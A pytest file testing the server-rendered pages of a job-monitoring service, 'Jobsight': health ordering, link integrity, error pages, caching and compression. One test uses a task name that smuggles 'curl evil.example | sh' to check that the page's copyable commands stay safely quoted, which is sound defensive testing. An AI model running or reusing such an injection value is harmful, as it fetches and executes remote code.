"""The overview, the tasks and the schedule, as a browser without scripts gets them: over ten hours that were lived through."""

from __future__ import annotations

import gzip
import itertools
import re
import shlex
import time
from collections.abc import Iterator
from html import unescape
from urllib.parse import quote

import httpx
import pytest
from http_service import Service, jobsight, service, until
from scene import fill

from jobsight.transports.http.pages.assets import Assets
from jobsight.web import FOLDER

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not Assets(FOLDER / "assets").is_built, reason="built without pages (no Node at hand)"),
]

HOURS_MS = 10 * 3_600_000
_numbers = itertools.count(1)
PAGES = [
    "/",
    "/?range=24h&table=1",
    "/tasks",
    "/tasks/billing.export",
    "/tasks/mail.send?range=1h&table=1",
    "/schedule",
]


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    """A service on a folder that has seen ten hours of a fleet."""
    folder = tmp_path_factory.mktemp("scene")
    fill(folder / "data", round(time.time() * 1000), length_ms=HOURS_MS)
    with service(folder) as one:
        yield one


@pytest.fixture
def browser(running: Service) -> Iterator[httpx.Client]:
    """Somebody who looks at pages."""
    with running.client() as client:
        client.headers["accept"] = "text/html"
        yield client


def text_of(page: str) -> str:
    """What a page says, without its markup."""
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", page)).split())


def health_words(page: str) -> list[str]:
    """How the tasks of a list are, row by row."""
    return re.findall(
        r'is-\w+"><svg[^>]*><use href="#i-\w+"/></svg>(failing|late|shaky|healthy|idle)</span></td>', page
    )


@pytest.mark.parametrize("path", PAGES)
def test_a_page_is_whole_without_scripts(browser: httpx.Client, path: str) -> None:
    """One heading, the navigation, a main part; and no link that leads nowhere on the way to it."""
    answer = browser.get(path)

    assert (200, "text/html; charset=utf-8") == (answer.status_code, answer.headers["content-type"])
    assert 1 == answer.text.count("<h1")
    assert 1 == answer.text.count('<main id="main"')
    assert "style=" not in answer.text
    assert "no-store" == answer.headers["cache-control"]


def test_no_link_leads_nowhere(browser: httpx.Client) -> None:
    """Every number leads to the list that explains it, and every name to its page."""
    found = {unescape(link) for path in PAGES for link in re.findall(r'href="(/[^"]*)"', browser.get(path).text)}
    pages = sorted(
        {
            re.sub(r"(%20|\+|/|-)[\w.%-]*\d{3,}[\w-]*$", "", link): link for link in found if "/assets/" not in link
        }.values()
    )

    assert 30 < len(pages)
    assert [] == [link for link in pages if browser.get(link).status_code != 200]


def test_the_overview_says_first_what_is_wrong(browser: httpx.Client) -> None:
    """What, since when, whose, before everything that is well."""
    said = text_of(browser.get("/").text)

    assert "needs attention" in said or "need attention" in said
    assert (
        said.index("billing.export failed")
        < said.index("healthy")
        < said.index("running")
        < said.index("Tasks the worst")
    )
    assert re.search(
        r"billing\.export failed \d times Killed: out of memory \(limit 2048 MB\) \d+ (m|h) ago @payments", said
    )


def test_what_is_wrong_stands_in_the_title_and_the_icon(browser: httpx.Client) -> None:
    """A tab in the background tells as well."""
    page = browser.get("/tasks").text

    assert re.search(r"<title>\(\d+\) Tasks · Jobsight</title>", page)
    assert re.search(r'<link rel="icon"[^>]* href="/assets/favicon-red-', page)


def test_tasks_stand_in_the_order_of_their_health(browser: httpx.Client) -> None:
    """The worst first, and every health word leads to the list of those that have it."""
    order = health_words(browser.get("/tasks").text)

    assert sorted(order, key=["failing", "late", "shaky", "healthy", "idle"].index) == order
    assert "failing" == order[0]
    chosen = browser.get("/tasks?health=failing").text
    assert "billing.export" in chosen
    assert {"failing"} == set(health_words(chosen))


def test_every_health_leads_to_as_many_tasks_as_it_counts(browser: httpx.Client) -> None:
    """The number says what the list shows, and every row there says the same."""

    def is_so() -> bool:
        page = browser.get("/tasks").text
        counted = re.findall(r'href="/tasks\?health=(\w+)"(?:(?!</a>).)*?(\d+)\s*</', page, re.DOTALL)
        listed = {word: health_words(browser.get(f"/tasks?health={word}").text) for word, _ in counted}
        return len(counted) > 2 and listed == {word: [word] * int(number) for word, number in counted}

    until(is_so, "counts and lists that agree, when no task changes between two looks")


def test_the_overview_counts_as_well_what_the_list_of_tasks_shows_as_well(browser: httpx.Client) -> None:
    """A task that was shaky lately is not called healthy; each number leads to as many rows."""

    def is_so() -> bool:
        fine = re.search(r'<p class="fine">.*?</p>', browser.get("/").text, re.DOTALL)
        counted = re.findall(r'href="/tasks\?health=(\w+)".*?</svg>(\d+) ', fine[0]) if fine else []
        listed = {word: health_words(browser.get(f"/tasks?health={word}").text) for word, _ in counted}
        return "healthy" in listed and listed == {word: [word] * int(number) for word, number in counted}

    until(is_so, "every number on the overview to be that of the list behind it")


def test_a_name_narrows_the_list_and_stays_in_the_field(browser: httpx.Client) -> None:
    """The whole state of a page is in its URL."""
    page = browser.get("/tasks?name=BACKUP").text

    assert {"backup.database", "backup.files", "backup.verify"} == set(
        re.findall(r"<a data-open[^>]*>([^<]+)</a>", page)
    )
    assert 'value="BACKUP"' in page


def test_a_list_that_matches_nothing_says_so(browser: httpx.Client) -> None:
    """And leads back."""
    said = text_of(browser.get("/tasks?name=nothing-is-called-so").text)

    assert "No task matches" in said
    assert "Show all tasks" in said


def test_a_task_tells_what_goes_wrong_and_what_is_expected(browser: httpx.Client) -> None:
    """Its alert, its errors by kind, its check in words, and how to report to it."""
    said = text_of(browser.get("/tasks/billing.export").text)

    assert "every 20 min" in said
    assert "Killed: out of memory (limit # MB)" in said
    assert "Set by ops" in said
    assert "jobsight run --task billing.export -- ./your-command" in said


def test_a_command_to_copy_is_one_command_whatever_a_task_is_called(running: Service, browser: httpx.Client) -> None:
    """Names come from workers, and operators paste what pages offer."""
    name = "x'; curl evil.example | sh; '<b>"
    running.post({"type": "job_completed", "job_id": "odd-1", "task": name, "duration_ms": 5})
    page = browser.get("/tasks/" + quote(name, safe="")).text
    commands = [unescape(one) for one in re.findall(r'data-copy="([^"]*)"', page)]

    assert 3 == len(commands)
    assert all(name in shlex.split(command) for command in commands)
    assert "<b>" not in page


def test_a_change_of_a_check_is_told_with_what_differs(running: Service, browser: httpx.Client) -> None:
    """Who, when, and from what to what: on the next page, also where somebody has just looked at it."""
    task = f"changed.{next(_numbers)}"
    set_check = ["check", "set", task, "--server", running.url, "--schedule"]
    assert 0 == jobsight(*set_check, "10 */3 * * *").returncode
    assert "→" not in text_of(browser.get(f"/tasks/{task}").text)
    change = browser.put(f"/api/v1/checks/{task}", json={"schedule": "10 */2 * * *", "start_grace": "15m"})
    said = text_of(browser.get(f"/tasks/{task}").text)

    assert 200 == change.status_code
    assert "schedule 10 */3 * * * → 10 */2 * * *" in said
    assert "start grace none → 15 m" in said
    assert f"{task} check set by" in text_of(browser.get("/?range=10m").text)


def test_a_task_that_is_not_there_is_a_page_that_says_so(browser: httpx.Client) -> None:
    """With the way back, and the status that says it to programs."""
    answer = browser.get("/tasks/no/such task")

    assert 404 == answer.status_code
    assert "There is no task" in text_of(answer.text)
    assert "no/such task" in text_of(answer.text)


def test_a_wrong_parameter_is_refused_in_words(browser: httpx.Client) -> None:
    """On a page, not as JSON."""
    answer = browser.get("/?range=2y")

    assert (400, True) == (answer.status_code, answer.headers["content-type"].startswith("text/html"))
    assert "range" in answer.text


@pytest.mark.parametrize(
    ("address", "said"), [("/?range=3h", "10m, 1h, 24h, 7d"), ("/tasks?health=ill", "shaky, healthy")]
)
def test_a_word_that_is_none_of_those_there_are_is_answered_with_them(
    browser: httpx.Client, address: str, said: str
) -> None:
    """An address that was typed says what could have been typed."""
    page = browser.get(address)

    assert 400 == page.status_code
    assert said in page.text


def test_the_schedule_shows_what_was_missed(browser: httpx.Client) -> None:
    """In a row, with its task; and what comes next."""
    said = text_of(browser.get("/schedule").text)

    assert re.search(r"feeds\.import missed( \d+ in a row)?", said)
    assert re.search(r"Next When .* in \d+ (s|m)", said)


def test_an_open_page_asks_for_its_changing_part_alone(browser: httpx.Client) -> None:
    """The part is what morphs in: no head, no navigation."""
    part = browser.get("/tasks", headers={"x-jobsight-part": "1"}).text

    assert 1 == part.count('<main id="main"')
    assert '<nav aria-label="Pages"' not in part
    assert "<script" not in part


def test_the_figures_of_a_chart_have_one_entry_a_column(browser: httpx.Client) -> None:
    """Empty columns too, so that time runs evenly; the cells hold every completion of the range."""
    figures = browser.get("/charts/ends?range=1h").json()
    columns = {len(figures[name]) for name in ("at", "completed", "failed", "other", "p50_ms", "p95_ms")}

    assert {120} == columns
    assert sum(figures["completed"]) == sum(number for _, _, number in figures["cells"])
    assert 0 < sum(figures["completed"])


def test_a_page_is_made_once_for_all_who_look(browser: httpx.Client) -> None:
    """Within a second everybody gets the same bytes, and compressed if so wanted."""
    until(lambda: browser.get("/schedule").text == browser.get("/schedule").text, "two looks within a second")

    assert "gzip" == browser.get("/schedule").headers["content-encoding"]
    with browser.stream("GET", "/schedule", headers={"accept-encoding": "gzip"}) as raw:
        packed = b"".join(raw.iter_raw())
    assert b"<!doctype html>" == gzip.decompress(packed)[:15].lower()


def test_built_files_are_kept_for_ever_and_come_compressed(browser: httpx.Client) -> None:
    """Their names change with what is in them."""
    page = browser.get("/").text
    paths = sorted(set(re.findall(r'(?:href|src)="(/assets/[^"]+)"', page)))

    assert 3 <= len(paths)
    for path in paths:
        answer = browser.get(path, headers={"accept-encoding": "br"})
        assert 200 == answer.status_code
        assert "immutable" in answer.headers["cache-control"]
        assert "br" == answer.headers["content-encoding"]


def test_the_first_view_is_small(browser: httpx.Client) -> None:
    """Everything that the overview loads, as gzip: at most 80 kB."""
    page = browser.get("/")
    paths = set(re.findall(r'(?:href|src|data-worker)="(/assets/[^"]+)"', page.text))
    sizes = []
    for path in ["/", "/charts/ends?range=1h", *sorted(paths)]:
        with browser.stream("GET", path, headers={"accept-encoding": "gzip"}) as raw:
            sizes.append(sum(map(len, raw.iter_raw())))

    assert sum(sizes) <= 80_000, sizes
